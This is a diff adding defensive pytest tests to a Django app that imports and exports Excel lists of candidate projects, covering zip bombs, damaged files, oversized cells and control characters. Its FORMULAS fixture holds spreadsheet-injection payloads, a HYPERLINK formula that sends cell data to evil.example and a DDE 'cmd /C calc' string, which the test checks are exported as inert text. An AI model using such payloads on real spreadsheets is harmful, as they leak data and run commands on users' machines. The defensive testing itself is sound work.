@@ -10,6 +10,7 @@ from openpyxl import Workbook, load_workbook
 
 from projects.excel import COLUMNS
 from projects.models import Candidate, CandidateSource, Status
+from tests import workbooks
 from tests.conftest import Cast, client_for
 
 HEADER_ZH = [
@@ -193,3 +194,187 @@ def test_export_reads_all_candidates_in_a_fixed_number_of_queries(
     with django_assert_max_num_queries(12):
         response = client.get(reverse("candidates_export", kwargs={"body": cast.body.slug}))
     assert load_workbook(io.BytesIO(response.content)).active.max_row == 12  # type: ignore[union-attr]
+
+
+# Hostile and broken files: each is refused whole, with a reason and no line number, and
+# nothing is stored. The file kinds are built in tests/workbooks.py.
+
+PROTECTED = "This workbook is password-protected or in the old .xls format."
+DAMAGED = "The file cannot be read as a workbook; it may be damaged, incomplete or not a"
+NOT_XLSX = "This is not an Excel workbook (.xlsx)."
+BROKEN_FILE_MESSAGES = {
+    "plain text": NOT_XLSX,
+    "old .xls or password-protected": PROTECTED,
+    "truncated": DAMAGED,
+    "damaged": DAMAGED,
+    "sheetless": "The workbook has no worksheet.",
+    "zip with an encrypted part": PROTECTED,
+    "zip of something else": NOT_XLSX,
+    "another Office file": DAMAGED,
+}
+
+
+def _good_file() -> bytes:
+    content: bytes = _sheet(_row()).read()
+    return content
+
+
+@pytest.mark.parametrize("kind", sorted(BROKEN_FILE_MESSAGES))
+def test_a_broken_or_protected_file_is_refused_whole_with_its_reason(cast: Cast, kind: str) -> None:
+    content = workbooks.broken_files(_good_file())[kind]
+    response = _import(cast, cast.congress, SimpleUploadedFile("x.xlsx", content), lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert BROKEN_FILE_MESSAGES[kind] in page
+    assert "Row 0" not in page
+    assert Candidate.objects.count() == CandidateSource.objects.count() == 0
+
+
+def test_a_whole_file_error_has_no_line_number(cast: Cast) -> None:
+    response = _import(cast, cast.congress, SimpleUploadedFile("x.xlsx", b"not a workbook"))
+    page = response.content.decode()
+    assert "这不是 Excel 工作簿（.xlsx）" in page
+    assert "第 0 行" not in page
+
+
+def _with_content_cell(text_bytes: bytes) -> bytes:
+    """The good file with its content cell's text replaced, written straight into the XML."""
+    good = _good_file()
+    xml = workbooks.sheet_xml(good)
+    marker = "配置午休课桌椅。".encode()
+    assert marker in xml
+    return workbooks.rezip(
+        good, replace={"xl/worksheets/sheet1.xml": xml.replace(marker, text_bytes)}
+    )
+
+
+def test_a_zip_bomb_is_refused_before_anything_is_unpacked(
+    cast: Cast, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # 25 MB of text in one cell packs into a file of a few tens of KB.
+    bomb = _with_content_cell(b"A" * 25_000_000)
+    assert len(bomb) < 100_000
+
+    def unpacked(*args: object) -> None:
+        raise AssertionError("the workbook was unpacked")
+
+    monkeypatch.setattr("openpyxl.reader.excel.ExcelReader.read", unpacked)
+    response = _import(cast, cast.congress, SimpleUploadedFile("bomb.xlsx", bomb), lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "The workbook unpacks to more than 20.0\xa0MB" in page
+    assert Candidate.objects.count() == 0
+
+
+def test_a_workbook_of_too_many_parts_is_refused(cast: Cast) -> None:
+    parts = {f"xl/media/image{n}.png": b"x" for n in range(600)}
+    content = workbooks.rezip(_good_file(), add=parts)
+    response = _import(cast, cast.congress, SimpleUploadedFile("parts.xlsx", content), lang="en")
+    assert "The workbook is made of more than 500 parts" in response.content.decode()
+    assert Candidate.objects.count() == 0
+
+
+def test_a_cell_longer_than_the_limit_is_refused_with_its_row(cast: Cast) -> None:
+    upload = _sheet(_row(), _row(建设内容="长" * 5001))
+    response = _import(cast, cast.congress, upload, lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "Row 3: Content is longer than 5000 characters." in page
+    assert Candidate.objects.count() == 0
+
+
+def test_a_cell_at_the_limit_is_taken(cast: Cast) -> None:
+    response = _import(cast, cast.congress, _sheet(_row(建设内容="长" * 5000)))
+    assert response.status_code == 302
+    assert len(Candidate.objects.get().content) == 5000
+
+
+def test_too_many_rows_are_refused_as_a_whole(cast: Cast, settings: Any) -> None:
+    settings.IMPORT_MAX_ROWS = 3
+    upload = _sheet(*[_row(项目名称=f"项目{n}") for n in range(4)])
+    response = _import(cast, cast.congress, upload, lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "<li>The sheet has more than 3 rows; split it into several files.</li>" in page
+    assert Candidate.objects.count() == 0
+
+
+def test_a_sheet_reaching_far_below_its_data_is_refused(cast: Cast) -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(HEADER_ZH)
+    sheet.append(_row())
+    sheet.cell(row=25_000, column=1, value="梅林小学午休改造")
+    out = io.BytesIO()
+    book.save(out)
+    upload = SimpleUploadedFile("far.xlsx", out.getvalue())
+    response = _import(cast, cast.congress, upload, lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "The sheet runs past row 20000;" in page
+    assert Candidate.objects.count() == 0
+
+
+def test_an_oversized_upload_is_refused_by_the_form(cast: Cast, settings: Any) -> None:
+    settings.IMPORT_MAX_BYTES = 2048
+    upload = SimpleUploadedFile("big.xlsx", b"PK" + bytes(5000))
+    response = _import(cast, cast.congress, upload, lang="en")
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "the limit is 2.0\xa0KB." in page
+    assert "Row 0" not in page
+
+
+@pytest.mark.parametrize(
+    ("overrides", "message"),
+    [
+        ({"项目名称": "梅林\x85小学"}, "Row 2: Project name: This text contains an invisible"),
+        ({"建设内容": "配置\x7f课桌椅"}, "Row 2: Content: This text contains an invisible"),
+        ({"提出人": "梅林\n社区"}, "Row 2: Proposer: This must be a single line"),
+    ],
+)
+def test_control_characters_in_a_row_are_refused(
+    cast: Cast, overrides: dict[str, str], message: str
+) -> None:
+    response = _import(cast, cast.congress, _sheet(_row(**overrides)), lang="en")
+    assert response.status_code == 400
+    assert message in response.content.decode()
+    assert Candidate.objects.count() == CandidateSource.objects.count() == 0
+
+
+def test_line_breaks_in_a_long_text_cell_are_kept(cast: Cast) -> None:
+    response = _import(cast, cast.congress, _sheet(_row(建设内容="配置课桌椅。\n更换照明。")))
+    assert response.status_code == 302
+    assert Candidate.objects.get().content == "配置课桌椅。\n更换照明。"
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
+    "content": "+1+cmd|' /C calc'!A0",
+    "implementing_unit": "-2+3",
+    "funding_source": "@SUM(1,2)",
+    "address": "\t=1+1",
+    "feasibility": "＝1+1",
+}
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(cast: Cast) -> None:
+    from projects.services import candidate_create
+    from tests.conftest import SOURCE, candidate_data
+
+    candidate_create(
+        actor=cast.congress, station=cast.east, data=candidate_data(**FORMULAS), source=SOURCE
+    )
+    exported = client_for(cast.congress).get(
+        reverse("candidates_export", kwargs={"body": cast.body.slug})
+    )
+    sheet = load_workbook(io.BytesIO(exported.content)).active
+    assert sheet is not None
+    at = {c.key: index for index, c in enumerate(COLUMNS)}
+    row = sheet[2]
+    for key, text in FORMULAS.items():
+        cell = row[at[key]]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), key
+    assert row[at["station"]].quotePrefix is False  # ordinary text is left as it is
+    assert row[at["investment_wan"]].data_type == "n"  # and numbers stay numbers
